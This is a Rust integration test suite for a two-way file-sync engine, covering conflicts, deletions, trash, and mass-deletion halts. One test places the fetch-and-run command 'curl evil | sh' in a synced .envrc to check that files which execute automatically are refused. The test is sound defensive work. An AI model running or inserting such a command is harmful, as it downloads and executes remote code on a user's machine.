//! Two-way sessions: beta's changes come to alpha, what both changed is kept on both sides, and nothing echoes.

use std::{fs, os::unix::fs::PermissionsExt, time::Duration};

use sync_core::{
    engine::{Keep, Mode},
    session::{
        FlushError, ResolveError, SessionOptions,
        event::{Event, Side},
    },
};
use sync_proto::{SyncPath, message::ProblemKind};

use super::{
    first::{changes, populate},
    lab::{Lab, Running, Served, a_moment, eventually, noise, options},
};

fn two_way() -> SessionOptions {
    SessionOptions { mode: Mode::TwoWaySafe, ..options() }
}

fn path(text: &str) -> SyncPath {
    SyncPath::parse(text.as_bytes()).unwrap()
}

fn read(path: impl AsRef<std::path::Path>) -> String {
    fs::read_to_string(path).unwrap()
}

/// Paths in conflict, by the status.
fn conflicts(running: &Running) -> Vec<String> {
    running.session.status().conflicts.iter().map(|conflict| conflict.path.to_string()).collect()
}

async fn in_conflict(running: &Running, wanted: &[&str]) {
    eventually("the conflicts", || conflicts(running) == wanted).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_kind_of_change_comes_back() {
    let lab = Lab::new();
    populate(&lab);
    let running = lab.start_with(two_way()).await;
    running.ready().await;
    for (what, change) in changes(&lab, "beta") {
        eprintln!("{what}");
        change();
        running.flush().await;
        lab.assert_same();
    }
    assert_eq!(conflicts(&running), [""; 0]);
    running.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_first_sync_is_a_union() {
    let lab = Lab::new();
    populate(&lab);
    lab.write_beta("only/at/beta", "beta's");
    lab.write_beta("deep/too", "beta's too");
    lab.write_beta("large at beta", noise(5 << 20, 9));
    lab.write_beta("tool.sh", "#!/bin/sh\n");
    fs::set_permissions(lab.beta("tool.sh"), fs::Permissions::from_mode(0o755)).unwrap();
    let running = lab.start_with(two_way()).await;
    running.flush().await;
    lab.assert_same();
    assert_eq!(read(lab.alpha("only/at/beta")), "beta's");
    running.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_echoes() {
    let lab = Lab::new();
    lab.write("file", "first");
    let running = lab.start_with(two_way()).await;
    running.ready().await;
    for round in 0..10 {
        let mark = running.mark();
        lab.write_beta("file", format!("beta {round}"));
        running.flush().await;
        assert_eq!(read(lab.alpha("file")), format!("beta {round}"));
        lab.write("file", format!("alpha {round}"));
        running.flush().await;
        assert_eq!(read(lab.beta("file")), format!("alpha {round}"));
        a_moment().await;
        let events = running.events().split_off(mark);
        let count = |wanted: fn(&Event) -> bool| events.iter().filter(|event| wanted(event)).count();
        // A file written in place may be seen twice: emptied, and full.
        let received = count(|event| matches!(event, Event::Received(_)));
        let synced = count(|event| matches!(event, Event::Synced(_)));
        assert!((1..=2).contains(&received) && (1..=2).contains(&synced), "{events:#?}");
    }
    running.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_both_changed_is_kept_until_it_is_settled() {
    let lab = Lab::new();
    for name in ["a.txt", "b.txt", "both.txt"] {
        lab.write(name, "agreed");
    }
    let mut served = Served::start(&[lab.path("beta")]).await;
    let options = SessionOptions { mode: Mode::TwoWaySafe, ..served.options() };
    let running = Running::start(&lab.path("alpha"), served.destination(&lab.path("beta")), options).await;
    running.flush_when_connected().await;
    served.stop().await;
    for name in ["a.txt", "b.txt", "both.txt"] {
        lab.write(name, format!("alpha's {name}"));
        lab.write_beta(name, format!("beta's version of {name}"));
    }
    // Deleted on one side and changed on the other: the change stays.
    served.start_again().await;
    in_conflict(&running, &["a.txt", "b.txt", "both.txt"]).await;
    assert_eq!(running.session.flush().await, Err(FlushError::Incomplete { conflicts: 3, problems: 0 }));
    let shown = running.session.conflicts().await;
    let first = shown.first().unwrap();
    let (alpha, beta) = (first.alpha.as_ref().unwrap(), first.beta.as_ref().unwrap());
    assert_eq!((alpha.entry.content_len(), beta.entry.content_len()), (13, 23));
    assert!(alpha.modified.is_some() && beta.modified.is_some(), "{shown:?}");
    for name in ["a.txt", "b.txt", "both.txt"] {
        assert_eq!(read(lab.alpha(name)), format!("alpha's {name}"));
        assert_eq!(read(lab.beta(name)), format!("beta's version of {name}"));
    }

    running.session.resolve(path("a.txt"), Keep::Alpha).await.unwrap();
    running.session.resolve(path("b.txt"), Keep::Beta).await.unwrap();
    running.session.resolve(path("both.txt"), Keep::Both).await.unwrap();
    let unknown = running.session.resolve(path("no such"), Keep::Alpha).await;
    assert!(matches!(unknown, Err(ResolveError::NotSettled(_))), "{unknown:?}");
    in_conflict(&running, &[]).await;
    running.flush_when_connected().await;
    lab.assert_same();
    assert_eq!(read(lab.beta("a.txt")), "alpha's a.txt");
    assert_eq!(read(lab.alpha("b.txt")), "beta's version of b.txt");
    assert_eq!(read(lab.alpha("both.txt")), "alpha's both.txt");
    assert_eq!(read(lab.alpha("both.beta.txt")), "beta's version of both.txt");
    running.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn in_the_resolved_mode_alphas_version_wins() {
    let lab = Lab::new();
    lab.write("both", "alpha's");
    lab.write_beta("both", "beta's");
    lab.write_beta("other", "beta's");
    let running = lab.start_with(SessionOptions { mode: Mode::TwoWayResolved, ..options() }).await;
    running.flush().await;
    lab.assert_same();
    assert_eq!((read(lab.beta("both")), read(lab.alpha("other"))), ("alpha's".to_owned(), "beta's".to_owned()));
    running.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_change_beats_a_deletion() {
    let lab = Lab::new();
    for name in ["gone at alpha", "gone at beta", "dir/changed", "dir/same"] {
        lab.write(name, "agreed");
    }
    let mut served = Served::start(&[lab.path("beta")]).await;
    let options = SessionOptions { mode: Mode::TwoWaySafe, ..served.options() };
    let running = Running::start(&lab.path("alpha"), served.destination(&lab.path("beta")), options).await;
    running.flush_when_connected().await;
    served.stop().await;
    fs::remove_file(lab.alpha("gone at alpha")).unwrap();
    lab.write_beta("gone at alpha", "changed");
    fs::remove_file(lab.beta("gone at beta")).unwrap();
    lab.write("gone at beta", "changed");
    fs::remove_dir_all(lab.beta("dir")).unwrap();
    lab.write("dir/changed", "changed");
    served.start_again().await;
    running.event_from(running.mark(), "Ready", |event| matches!(event, Event::Ready { .. })).await;
    running.flush_when_connected().await;
    lab.assert_same();
    for name in ["gone at alpha", "gone at beta", "dir/changed"] {
        assert_eq!((read(lab.alpha(name)), read(lab.beta(name))), ("changed".to_owned(), "changed".to_owned()));
    }
    assert!(!lab.alpha("dir/same").exists());
    running.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_goes_at_alpha_is_in_the_trash() {
    let lab = Lab::new();
    lab.write("dir/file", "precious");
    lab.write("stays", "here");
    let running = lab.start_with(two_way()).await;
    running.ready().await;
    fs::remove_dir_all(lab.beta("dir")).unwrap();
    running.flush().await;
    lab.assert_same();
    assert!(!lab.alpha("dir").exists());
    let trashed = sync_core::replica::trash::list(&lab.path("alpha")).unwrap();
    assert!(trashed.iter().any(|trashed| trashed.path == path("dir/file")), "{trashed:?}");
    running.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn names_that_make_a_machine_run_something_are_refused() {
    let lab = Lab::new();
    lab.write(".envrc", "alpha's");
    lab.write(".vscode/settings.json", "{}");
    let running = lab.start_with(two_way()).await;
    running.ready().await;
    lab.assert_same();
    lab.write_beta(".envrc", "curl evil | sh");
    lab.write_beta(".vscode/tasks.json", "{}");
    lab.write_beta("harmless", "x");
    eventually("what may come", || lab.alpha("harmless").exists()).await;
    let refused =
        |at: &str| {
            let at = path(at);
            running.session.status().problems.iter().any(|problem| {
                problem.side == Side::Alpha && problem.path == at && problem.kind == ProblemKind::Refused
            })
        };
    eventually("both are told", || refused(".envrc") && refused(".vscode/tasks.json")).await;
    assert_eq!(read(lab.alpha(".envrc")), "alpha's");
    assert!(!lab.alpha(".vscode/tasks.json").exists());
    // The other way they go.
    lab.write(".vscode/launch.json", "{}");
    eventually("alpha's own", || lab.beta(".vscode/launch.json").exists()).await;
    running.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_mass_deletion_at_beta_is_asked_for() {
    let lab = Lab::new();
    for number in 0..30 {
        lab.write(&format!("dir/{number}"), "x");
    }
    lab.write("other", "x");
    let running = lab.start_with(two_way()).await;
    running.ready().await;
    let mark = running.mark();
    // At once: of what goes piece by piece the first half is let go.
    fs::rename(lab.beta("dir"), lab.path("gone")).unwrap();
    running.event_from(mark, "Halted", |event| matches!(event, Event::Halted { .. })).await;
    a_moment().await;
    assert_eq!(fs::read_dir(lab.alpha("dir")).unwrap().count(), 30);
    running.session.allow_deletions();
    running.event_from(mark, "Resumed", |event| matches!(event, Event::Resumed)).await;
    running.flush().await;
    lab.assert_same();
    assert!(!lab.alpha("dir").exists());
    // Allowed once.
    for number in 0..30 {
        lab.write(&format!("dir/{number}"), "x");
    }
    running.flush().await;
    let mark = running.mark();
    fs::rename(lab.alpha("dir"), lab.path("gone too")).unwrap();
    running.event_from(mark, "Halted", |event| matches!(event, Event::Halted { .. })).await;
    running.stop().await;
}

/// Fault 38: what stands at a new or emptied beta is evidence of nothing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_emptied_beta_deletes_nothing_at_alpha() {
    let lab = Lab::new();
    for number in 0..5 {
        lab.write(&format!("{number}"), "x");
    }
    let remembering = || SessionOptions { state_dir: Some(lab.path("state")), ..two_way() };
    let running = lab.start_with(remembering()).await;
    running.flush().await;
    running.stop().await;
    // The same replica, its content gone.
    for number in 0..5 {
        fs::remove_file(lab.beta(&number.to_string())).unwrap();
    }
    let running = lab.start_with(remembering()).await;
    running.event("Halted", |event| matches!(event, Event::Halted { .. })).await;
    running.stop().await;
    assert_eq!(fs::read_dir(lab.path("alpha")).unwrap().count(), 6, "five and .synctl");
    // Another replica: it is filled again.
    fs::remove_dir_all(lab.path("beta")).unwrap();
    fs::create_dir(lab.path("beta")).unwrap();
    let running = lab.start_with(remembering()).await;
    running.flush().await;
    lab.assert_same();
    assert!(lab.alpha("0").exists());
    running.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn changes_made_while_nobody_ran_go_their_own_ways() {
    let lab = Lab::new();
    for name in ["a", "b", "moved"] {
        lab.write(name, format!("agreed on {name}"));
    }
    let remembering = || SessionOptions { state_dir: Some(lab.path("state")), ..two_way() };
    let running = lab.start_with(remembering()).await;
    running.flush().await;
    running.stop().await;
    lab.write("a", "alpha's");
    lab.write_beta("b", "beta's");
    fs::rename(lab.beta("moved"), lab.beta("elsewhere")).unwrap();
    let running = lab.start_with(remembering()).await;
    running.flush().await;
    lab.assert_same();
    assert_eq!((read(lab.beta("a")), read(lab.alpha("b"))), ("alpha's".to_owned(), "beta's".to_owned()));
    assert!(!lab.alpha("moved").exists() && lab.alpha("elsewhere").exists());
    assert_eq!(conflicts(&running), [""; 0]);
    running.stop().await;
}

/// A hand on each side, at once, in a tree of their own and in each other's.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hands_on_both_sides_at_once_converge() {
    let lab = Lab::new();
    populate(&lab);
    let running = lab.start_with(two_way()).await;
    running.ready().await;
    let hand = |root: &'static str| {
        let base = lab.path(root);
        std::thread::spawn(move || {
            for round in 0..200_usize {
                let own = base.join(format!("{root}s/{}", round % 17));
                let shared = base.join(format!(
                    "many/{}/{}.txt",
                    round % 7,
                    (round * if root == "alpha" { 7 } else { 14 }) % 300
                ));
                super::lab::write(&own, noise(round * 97 % 9000, round as u8));
                if round % 5 == 0 {
                    let _ = fs::rename(&own, base.join(format!("{root}s/moved {}", round % 3)));
                }
                if shared.parent().unwrap().exists() {
                    let _ = fs::write(&shared, format!("{root} {round}"));
                }
                std::thread::sleep(Duration::from_millis(3));
            }
        })
    };
    let hands = [hand("alpha"), hand("beta")];
    for hand in hands {
        tokio::task::spawn_blocking(move || hand.join().unwrap()).await.unwrap();
    }
    match running.session.flush().await {
        Ok(()) | Err(FlushError::Incomplete { problems: 0, .. }) => {}
        other => panic!("{other:?}"),
    }
    let status = running.session.status();
    assert_eq!((status.halted, status.problems), (None, vec![]));
    for conflict in running.session.status().conflicts {
        assert!(conflict.alpha.is_some() && conflict.beta.is_some(), "{conflict:?}");
        running.session.resolve(conflict.path, Keep::Alpha).await.unwrap();
    }
    eventually("all is settled", || conflicts(&running).is_empty()).await;
    running.flush().await;
    lab.assert_same();
    running.stop().await;
}
